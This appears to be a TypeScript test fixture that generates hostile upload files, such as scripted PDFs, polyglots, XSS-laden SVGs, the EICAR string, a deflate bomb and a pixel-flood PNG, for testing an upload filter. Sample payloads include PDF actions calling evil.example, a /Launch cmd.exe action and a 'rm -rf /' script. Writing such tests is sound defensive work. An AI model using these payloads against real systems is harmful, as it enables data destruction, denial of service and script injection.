import { deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** Files a stranger might send, by what they pretend to be. `refused` are never kept; `quarantined` are kept and never served. */
export type Hostile = { name: string; bytes: Uint8Array; ends: 'refused' | 'quarantined' }

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const END = '\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'
export const pdf = (body: string, end = END): Buffer => latin1(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${body}${end}`)

const objectStream = (content: string): string =>
  `5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${deflateSync(latin1(content)).toString('latin1')}\nendstream\nendobj\n`

const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
const ZIP_END = latin1(`PK\u0005\u0006${'\u0000'.repeat(18)}`)

const QUARANTINED: readonly (readonly [string, Uint8Array])[] = [
  ['javascript.pdf', pdf('2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj')],
  ['javascript in hexadecimal.pdf', pdf('2 0 obj << /S /J#61vaScript /#4a#53 (x) >> endobj')],
  ['javascript compressed.pdf', pdf(objectStream('2 0 << /S /JavaScript /JS (x) >>'))],
  ['javascript behind a false stream.pdf', pdf('%stream\n2 0 obj << /S /JavaScript >> endobj\nendstream')],
  ['on opening.pdf', pdf('2 0 obj << /OpenAction << /S /URI /URI (http://evil.example) >> >> endobj')],
  ['launch.pdf', pdf('2 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
  ['xfa.pdf', pdf('2 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj')],
  ['submits itself.pdf', pdf('2 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj')],
  ['imports data.pdf', pdf('2 0 obj << /S /ImportData /F (x.fdf) >> endobj')],
  ['film.pdf', pdf('2 0 obj << /Subtype /RichMedia >> endobj')],
  ['file inside.pdf', pdf('2 0 obj << /Type /EmbeddedFile >> endobj')],
  ['file inside compressed.pdf', pdf(objectStream('2 0 << /Names << /EmbeddedFiles 3 0 R >> >>'))],
  ['password.pdf', pdf('', '\ntrailer << /Root 1 0 R /Encrypt 9 0 R >>\nstartxref\n9\n%%EOF')],
  ['half.pdf', latin1('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n')],
  ['web page.pdf', pdf('<html><script>alert(1)</script></html>')],
  ['archive on its end.pdf', Buffer.concat([pdf(''), ZIP_END])],
  ['a hundred thousand pages.pdf', pdf('2 0 obj << /Type /Pages /Count 100000 >> endobj')],
  ['does not open.pdf', pdf('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nxx\nendstream\nendobj')],
  ['bomb.pdf', pdf(objectStream(' '.repeat(64 * 1024 * 1024)))],
]

const REFUSED: readonly (readonly [string, Uint8Array])[] = [
  ['nothing.pdf', new Uint8Array(0)],
  ['one byte.jpg', new Uint8Array([0xff])],
  ['script.svg', latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['svg called png.png', latin1('<?xml version="1.0"?><svg><script>alert(1)</script></svg>')],
  ['page.jpg', latin1('<!doctype html><script>alert(1)</script>')],
  ['program.pdf', latin1(`MZ\u0090\u0000${'\u0000'.repeat(60)}PE`)],
  ['gif.png', latin1('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;')],
  ['gif and java.gif', Buffer.concat([latin1('GIF89a;'), ZIP_END])],
  ['archive.pdf', latin1('PK\u0003\u0004 word/document.xml')],
  ['pdf after a line.pdf', Buffer.concat([latin1('\n'), pdf('')])],
  ['page before a pdf.pdf', Buffer.concat([latin1('<script>alert(1)</script>'), pdf('')])],
  ['virus test.txt', latin1(EICAR)],
  ['script.sh', latin1('#!/bin/sh\nrm -rf /\n')],
  ['postscript.pdf', latin1('%!PS-Adobe-3.0\n(run) run')],
  ['tiff.jpg', latin1('II*\u0000\u0008\u0000\u0000\u0000')],
  ['bitmap.png', latin1('BM\u0000\u0000')],
  ['fifty-five bytes of asf.jpg', latin1(`\u0030\u0026\u00b2\u0075\u008e\u0066\u00cf\u0011${'\u0000'.repeat(47)}`)],
  ['film.jpg', latin1('\u0000\u0000\u0000\u0018ftypisom')],
  ['iphone.heic', latin1('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000')],
  ['avif.jpg', latin1('\u0000\u0000\u0000\u0018ftypavif\u0000\u0000\u0000\u0000')],
  ['sound.webp', latin1('RIFF\u0004\u0000\u0000\u0000WAVE')],
  ['webp in name.webp', latin1('RIFF\u0004\u0000\u0000\u0000WEBP')],
  ['jpeg in name.jpg', new Uint8Array([0xff, 0xd8, 0xff, 0xd9])],
  ['two and a half milliard pixels.png', pixelFlood(50_000, 50_000)],
]

/** The whole collection; some are drawn when asked for. */
export async function hostileFiles(): Promise<Hostile[]> {
  const photo = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#0B6E6C' } }).jpeg().toBuffer()
  const drawn = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#F9B640' } }).png().toBuffer()
  const broken: readonly (readonly [string, Uint8Array])[] = [
    ['half a photo.jpg', photo.subarray(0, photo.length - 200)],
    ['half a screenshot.png', drawn.subarray(0, drawn.length - 40)],
    ['photo with its middle gone.png', Buffer.concat([drawn.subarray(0, 45), Buffer.alloc(40, 0xff), drawn.subarray(85)])],
  ]
  return [
    ...[...REFUSED, ...broken].map(([name, bytes]) => ({ name, bytes, ends: 'refused' as const })),
    ...QUARANTINED.map(([name, bytes]) => ({ name, bytes, ends: 'quarantined' as const })),
  ]
}

/** A header that promises more pixels than any memory holds. */
function pixelFlood(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 6, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(kind: string, content: Buffer): Buffer {
  const body = Buffer.concat([latin1(kind), content])
  const around = Buffer.alloc(8)
  around.writeUInt32BE(content.length, 0)
  around.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)])
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1
  }
  return (crc ^ 0xffffffff) >>> 0
}
